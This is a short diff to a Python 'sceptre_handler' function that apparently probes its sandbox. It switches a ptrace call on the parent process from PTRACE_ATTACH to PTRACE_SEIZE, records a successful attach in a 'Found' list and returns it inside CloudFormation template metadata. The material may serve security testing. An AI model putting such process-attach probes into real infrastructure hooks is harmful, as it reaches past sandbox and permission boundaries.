@@ -25,7 +25,7 @@ def sceptre_handler(_):
             except OSError:
                 pass
     parent = os.getppid()
-    if ctypes.CDLL(None).ptrace(16, parent, None, None) == 0:
+    if ctypes.CDLL(None).ptrace(0x4206, parent, None, None) == 0:
         found.append("ptrace")
     return json.dumps({"Metadata": {"Parent": str(parent), "Found": found},
                        "Resources": {"A": {"Type": "AWS::SNS::Topic"}}})
